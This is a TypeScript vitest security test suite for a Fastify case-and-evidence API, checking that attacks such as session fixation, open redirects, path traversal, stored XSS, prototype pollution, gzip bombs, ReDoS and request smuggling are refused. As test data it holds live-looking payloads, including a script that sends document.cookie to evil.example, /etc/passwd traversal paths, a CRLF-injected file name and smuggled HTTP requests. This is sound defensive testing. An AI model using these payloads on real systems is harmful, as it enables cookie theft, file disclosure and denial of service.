import { connect, type AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';
import { createClient } from '@underpin/contract';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { registerApi } from '../src/api/api.ts';
import { healthRoutes } from '../src/operations/health.ts';
import { metricsRoute } from '../src/operations/metrics.ts';
import { createServer } from '../src/server.ts';
import { newStore } from './stores.ts';
import { adminPassword, type Client, fetchOf, good, makeWorld, type World } from './world.ts';

let world: World;
let remove: () => Promise<void>;
let server: FastifyInstance;
let [one, two] = [] as Client[] as [Client, Client];
let token = '';
let caseId = '';
const graded = {
  source: { name: 'n', kind: 'other', publishedOn: '2026', citation: 'c' },
  reliability: 'A',
  credibility: 1,
  independentSources: 1,
  marking: 'GREEN',
} as const;

beforeAll(async () => {
  const made = await newStore('the embedded database');
  remove = made.remove;
  world = await makeWorld(made.store);
  server = await createServer({ pages: () => [], paths: [], loaded: () => null, perAddress: 100_000 });
  healthRoutes(server, made.store);
  await metricsRoute(server, world.options, 'administrators');
  await registerApi(server, world.options);
  await server.listen({ host: '127.0.0.1', port: 0 });
  [one, two] = [await world.join('A1', 'authority'), await world.join('A2', 'authority')];
  await world.join('WG', 'working group');
  token = good(await one.addToken({ body: { name: 'n', scope: 'write', days: 1 } })).secret;
  const body = { title: 't', question: 'q', marking: 'GREEN', workingGroup: 'WG', quorum: 1 } as const;
  caseId = good(await one.addCase({ body: { ...body, authorities: ['A1'] } })).id;
});
afterAll(async () => {
  await server.close();
  await world.server.close();
  await remove();
});

const bearer = (): Record<string, string> => ({ authorization: `Bearer ${token}` });
const post = (payload: string | Buffer, headers: Record<string, string> = {}, url = `/api/v1/cases/${caseId}/tasks`) =>
  server.inject({
    method: 'POST',
    url,
    payload,
    headers: { 'content-type': 'application/json', ...bearer(), ...headers },
  });

/** Sends bytes as they are, and answers all that came back before the end. */
function raw(text: string): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect((server.server.address() as AddressInfo).port, '127.0.0.1', () => socket.write(text));
    let answer = '';
    socket.setTimeout(3000, () => socket.destroy());
    socket.on('data', (piece) => (answer += piece.toString('latin1')));
    socket.on('error', () => {});
    socket.on('close', () => resolve(answer));
  });
}

test('session fixation: a cookie that an attacker planted is not the one that signing in gives', async () => {
  const planted = 'underpin_session=planted-by-somebody-else-0123456789abcdefghijk';
  const signedIn = await server.inject({
    method: 'POST',
    url: '/api/v1/session',
    headers: { cookie: planted },
    payload: { login: 'administrator', password: adminPassword },
  });
  expect(signedIn.statusCode).toBe(200);
  const set = String(signedIn.headers['set-cookie']);
  expect(set).not.toContain('planted');
  expect((await server.inject({ url: '/api/v1/session', headers: { cookie: planted } })).statusCode).toBe(401);
  const cookie = set.split(';')[0] ?? '';
  expect((await server.inject({ url: '/api/v1/session', headers: { cookie } })).statusCode).toBe(200);
  // Signed out, the cookie is worth nothing any more, wherever it was copied to.
  const { csrf } = signedIn.json<{ csrf: string }>();
  const out = await server.inject({
    method: 'DELETE',
    url: '/api/v1/session',
    headers: { cookie, 'x-csrf-token': csrf },
  });
  expect(out.statusCode).toBe(204);
  expect((await server.inject({ url: '/api/v1/session', headers: { cookie } })).statusCode).toBe(401);
});

test('common passwords are refused when they are set and when they are changed', async () => {
  const login = `p${crypto.randomUUID()}@example.org`;
  const { link } = good(await world.admin.addPerson({ body: { party: 'A1', name: 'P', login, roles: ['analyst'] } }));
  const anyone = createClient({ baseUrl: '', fetch: fetchOf(server) });
  const token_ = link.split('#')[1] ?? '';
  for (const password of ['password1234', 'qwertyqwerty', 'unbelievable']) {
    const answer = await anyone.useLink({ body: { token: token_, password } });
    expect(answer).toMatchObject({
      status: 409,
      problem: { detail: expect.stringContaining('attackers try first') as unknown },
    });
  }
  // The link is not used up by that.
  expect(good(await anyone.useLink({ body: { token: token_, password: 'four odd words together' } }))).toEqual({
    login,
  });
});

test('a forged Host or X-Forwarded header changes no link, cookie or address', async () => {
  const forged = {
    host: 'evil.example',
    'x-forwarded-host': 'evil.example',
    'x-forwarded-proto': 'https',
    'x-forwarded-for': '10.9.8.7',
  };
  for (const url of ['/api', '/welcome', '/api/v1/openapi.json', '/api/v1/nothing', '/nowhere', '/healthz/live']) {
    const answer = await server.inject({ url, headers: forged });
    expect(answer.body + JSON.stringify(answer.headers), url).not.toContain('evil.example');
  }
  const added = await server.inject({
    method: 'POST',
    url: '/api/v1/people',
    headers: {
      ...forged,
      authorization: `Bearer ${good(await world.admin.addToken({ body: { name: 'n', scope: 'write', days: 1 } })).secret}`,
    },
    payload: { party: 'A1', name: 'P', login: `p${crypto.randomUUID()}@example.org`, roles: ['analyst'] },
  });
  expect(added.statusCode).toBe(201);
  expect(added.body).not.toContain('evil.example');
});

test('no address leads elsewhere', async () => {
  for (const url of [
    '//evil.example',
    '/\\evil.example',
    '/api/v1//evil.example/',
    '/%2f%2fevil.example',
    '/?next=https://evil.example',
    '/welcome?to=//evil.example',
  ]) {
    const { statusCode, headers } = await server.inject({ url });
    expect(headers.location, url).toBeUndefined();
    expect(statusCode < 300 || statusCode >= 400, url).toBe(true);
  }
});

test('paths lead to no file', async () => {
  const paths = [
    '/../../etc/passwd',
    '/assets/../../../etc/passwd',
    '/assets/%2e%2e/%2e%2e/package.json',
    '/..%2f..%2fetc%2fpasswd',
    '/api/..%5c..%5cpackage.json',
    '/%00',
    '/api/%c0%ae%c0%ae/',
  ];
  for (const path of paths) {
    const answer = await raw(`GET ${path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
    expect(answer, path).toMatch(/^HTTP\/1.1 4\d\d/);
    expect(answer, path).not.toMatch(/root:|"name": "underpin/);
  }
  const evidence = good(await one.addEvidence({ params: { id: caseId }, body: { ...graded, statement: 's' } }));
  const named = good(
    await one.putEvidenceFile({
      params: { id: evidence.id },
      query: { name: '../../../etc/cron.d/x\r\nSet-Cookie: a=b' },
      file: Buffer.from('text'),
    }),
  );
  expect(named.fileName).not.toMatch(/[/\\\r\n]/);
  const download = await server.inject({ url: `/api/v1/evidence/${evidence.id}/file`, headers: bearer() });
  expect(download.statusCode).toBe(200);
  expect(download.headers['set-cookie']).toBeUndefined();
});

test('script in evidence is never run: files are downloads, text is data', async () => {
  const attack = '<script>fetch("//evil.example/"+document.cookie)</script><img src=x onerror=alert(1)>';
  const evidence = good(await one.addEvidence({ params: { id: caseId }, body: { ...graded, statement: attack } }));
  for (const [name, content] of [
    ['x.html', `<!doctype html>${attack}`],
    ['x.svg', `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${attack}</svg>`],
  ] as const) {
    const held = good(await one.addEvidence({ params: { id: caseId }, body: { ...graded, statement: 's' } }));
    good(await one.putEvidenceFile({ params: { id: held.id }, query: { name }, file: Buffer.from(content) }));
    const { headers, body } = await server.inject({ url: `/api/v1/evidence/${held.id}/file`, headers: bearer() });
    expect(body).toBe(content);
    expect(headers['content-type']).toBe('application/octet-stream');
    expect(headers['content-disposition']).toMatch(/^attachment;/);
    expect(headers['content-security-policy']).toMatch(/^sandbox;/);
    expect(headers['x-content-type-options']).toBe('nosniff');
  }
  const told = await server.inject({ url: `/api/v1/evidence/${evidence.id}`, headers: bearer() });
  expect(told.headers['content-type']).toMatch(/^application\/json/);
  expect(told.json<{ statement: string }>().statement).toBe(attack);
});

test('another party’s objects are not there, by any id and any verb', async () => {
  const evidence = good(await one.addEvidence({ params: { id: caseId }, body: { ...graded, statement: 's' } }));
  const task = good(await one.addTask({ params: { id: caseId }, body: { title: 't', owner: 'A1' } }));
  const answers = await Promise.all([
    two.getCase({ params: { id: caseId } }),
    two.listEvidence({ params: { id: caseId } }),
    two.getEvidence({ params: { id: evidence.id } }),
    two.changeEvidence({ params: { id: evidence.id }, body: { credibility: 6 }, ifMatch: 1 }),
    two.shareEvidence({ params: { id: evidence.id }, ifMatch: 1 }),
    two.getEvidenceFile({ params: { id: evidence.id } }),
    two.putEvidenceFile({ params: { id: evidence.id }, query: { name: 'x' }, file: Buffer.from('x') }),
    two.changeTask({ params: { id: task.id }, body: { done: true }, ifMatch: 1 }),
    two.addTask({ params: { id: caseId }, body: { title: 't', owner: 'A2' } }),
    two.exportCase({ params: { id: caseId } }),
  ]);
  expect(answers.map(({ status }) => status)).toEqual(answers.map(() => 404));
});

test('fields that nobody may set are refused, and prototypes stay as they are', async () => {
  const attempts = [
    '{"title":"t","owner":"A1","__proto__":{"polluted":1}}',
    '{"title":"t","owner":"A1","constructor":{"prototype":{"polluted":1}}}',
    '{"title":"t","owner":"A1","caseId":"other","version":99,"done":true}',
  ];
  for (const attempt of attempts) expect((await post(attempt)).statusCode, attempt).toBe(400);
  expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
});

test('deep, wide and odd JSON is answered at once, and never as a mistake of ours', async () => {
  const begun = performance.now();
  const bodies = [
    '['.repeat(200_000) + ']'.repeat(200_000),
    '{"a":'.repeat(100_000) + '1' + '}'.repeat(100_000),
    `{"title":${JSON.stringify('x'.repeat(900_000))},"owner":"A1"}`,
    `{${Array.from({ length: 50_000 }, (_, n) => `"k${n}":1`).join()}}`,
    '{"title":1e999,"owner":"A1"}',
    '\ufeff{"title":"t","owner":"A1"}x',
  ];
  for (const body of bodies) {
    const { statusCode } = await post(body);
    expect(statusCode, body.slice(0, 40)).toBeGreaterThanOrEqual(400);
    expect(statusCode, body.slice(0, 40)).toBeLessThan(500);
  }
  expect(performance.now() - begun).toBeLessThan(20_000);
});

test('packed bodies are not unpacked: a bomb stays as small as it came', async () => {
  const bomb = gzipSync(Buffer.alloc(50_000_000, ' '));
  const before = process.memoryUsage().rss;
  for (const encoding of ['gzip', 'br', 'deflate']) {
    const { statusCode } = await post(bomb, { 'content-encoding': encoding });
    expect(statusCode, encoding).toBe(400);
  }
  expect(process.memoryUsage().rss - before).toBeLessThan(40_000_000);
});

test('patterns in filters and searches cost no more than plain text', async () => {
  const evil = ['%'.repeat(190), '(a+)+$'.repeat(30), '_%'.repeat(95), '\\'.repeat(190), `${'a'.repeat(180)}!`];
  const begun = performance.now();
  for (const q of evil) {
    expect(
      (await server.inject({ url: `/api/v1/search?q=${encodeURIComponent(q)}`, headers: bearer() })).statusCode,
      q,
    ).toBe(200);
    const cursor = encodeURIComponent(q.repeat(2));
    expect((await server.inject({ url: `/api/v1/cases?cursor=${cursor}`, headers: bearer() })).statusCode).toBe(400);
    const odd = { ...bearer(), 'if-match': `"${'1'.repeat(5000)}`, 'idempotency-key': `${'!'.repeat(5000)} ` };
    expect((await post('{"title":"t","owner":"A1"}', odd)).statusCode).toBe(400);
    expect((await server.inject({ url: '/api/v1/cases', headers: { authorization: `Bearer ${q}` } })).statusCode).toBe(
      401,
    );
  }
  expect(performance.now() - begun).toBeLessThan(10_000);
});

test('requests that two servers could read differently are refused', async () => {
  const smuggled = [
    'POST /api/v1/session HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /metrics HTTP/1.1\r\nHost: x\r\n\r\n',
    'POST /api/v1/session HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello!',
    'GET /healthz/live HTTP/1.1\r\nHost: x\r\nX: a\nb: c\r\n\r\n',
    'GET /healthz/live HTTP/1.1\r\n\r\n',
  ];
  for (const text of smuggled) expect(await raw(text), text.slice(0, 80)).toMatch(/^HTTP\/1.1 400/);
  for (const method of ['TRACE', 'CONNECT', 'PROPFIND'] as const) {
    expect(await raw(`${method} /api/v1/cases HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`)).not.toMatch(
      /^HTTP\/1.1 2/,
    );
  }
});

test('what operators are told of errors holds no secret of a request', async () => {
  const told: string[] = [];
  const broken = {
    ...world.store,
    reviews: {
      ...world.store.reviews,
      files: world.store.reviews.files,
      as: () => Promise.reject(new TypeError('cannot read x')),
      door: world.store.reviews.door.bind(world.store.reviews),
      holderOf: world.store.reviews.holderOf.bind(world.store.reviews),
      worker: world.store.reviews.worker.bind(world.store.reviews),
    },
  };
  const other = await createServer({ pages: () => [], paths: [], loaded: () => null });
  const tell = (error: unknown): void => void told.push(error instanceof Error ? error.message : 'Unknown error');
  await registerApi(other, { ...world.options, store: broken, tell });
  const secrets = { title: 'secret title', owner: 'A1' };
  const answer = await other.inject({
    method: 'POST',
    url: `/api/v1/cases/${caseId}/tasks`,
    headers: bearer(),
    payload: secrets,
  });
  expect(answer.statusCode).toBe(500);
  expect(told).toEqual(['cannot read x']);
  for (const secret of [token, 'secret title', 'cannot read x']) expect(answer.body).not.toContain(secret);
  await other.close();
});

test('an address that asks too much waits, whatever it claims to be', async () => {
  const small = await createServer({ pages: () => [], paths: [], loaded: () => null, perAddress: 5 });
  healthRoutes(small, world.store);
  await registerApi(small, world.options);
  const statuses: number[] = [];
  for (let n = 0; n < 8; n += 1) {
    const headers = { authorization: `Bearer ${n}`, 'x-forwarded-for': `10.0.0.${n}`, cookie: `underpin_session=${n}` };
    statuses.push((await small.inject({ url: '/api/v1/cases', headers })).statusCode);
  }
  expect(statuses).toEqual([401, 401, 401, 401, 401, 429, 429, 429]);
  await small.close();
  // Behind a proxy that is known, the address is the one that the proxy tells.
  const behind = await createServer({
    pages: () => [],
    paths: [],
    loaded: () => null,
    perAddress: 2,
    proxies: ['127.0.0.1'],
  });
  await registerApi(behind, world.options);
  const from = async (address: string) =>
    (await behind.inject({ url: '/api/v1/cases', headers: { 'x-forwarded-for': address } })).statusCode;
  expect([await from('192.0.2.1'), await from('192.0.2.1'), await from('192.0.2.1'), await from('192.0.2.2')]).toEqual([
    401, 401, 429, 401,
  ]);
  await behind.close();
});

test('figures for operators: to this machine and to administrators only, and none of them tells of a case', async () => {
  const local = await server.inject({ url: '/metrics' });
  expect(local.statusCode).toBe(200);
  expect(local.headers['content-type']).toMatch(/^text\/plain; version=0\.0\.4/);
  expect(local.body).toMatch(/http_request_duration_seconds_bucket\{le="0.005",method="GET",route="\/api\/v1\/cases"/);
  expect(local.body).toMatch(/^underpin_ledger_entries [1-9]\d*$/m);
  expect(local.body).toMatch(/^underpin_ready\{part="database"\} 1$/m);
  expect(local.body).toMatch(/^process_resident_memory_bytes \d+$/m);
  expect(local.body).not.toContain(caseId);
  const outside = { remoteAddress: '203.0.113.9', url: '/metrics' };
  expect((await server.inject(outside)).statusCode).toBe(404);
  expect((await server.inject({ ...outside, headers: bearer() })).statusCode).toBe(404);
  const admin = good(await world.admin.addToken({ body: { name: 'prometheus', scope: 'read', days: 1 } })).secret;
  expect((await server.inject({ ...outside, headers: { authorization: `Bearer ${admin}` } })).statusCode).toBe(200);
  expect((await server.inject({ url: '/metrics', headers: { 'x-forwarded-for': '203.0.113.9' } })).statusCode).toBe(
    404,
  );
});

test('every answer of the pages carries the headers', async () => {
  const secure = await createServer({
    pages: () => [{ path: '/page', html: () => 'x' }],
    paths: ['/page'],
    loaded: () => null,
    secure: true,
  });
  for (const url of ['/page', '/health', '/nowhere']) {
    expect((await secure.inject({ url })).headers, url).toMatchObject({
      'content-security-policy': expect.stringContaining("frame-ancestors 'none'") as unknown,
      'strict-transport-security': 'max-age=63072000; includeSubDomains',
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'no-referrer',
      'permissions-policy': expect.stringContaining('camera=()') as unknown,
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
    });
  }
  await secure.close();
});
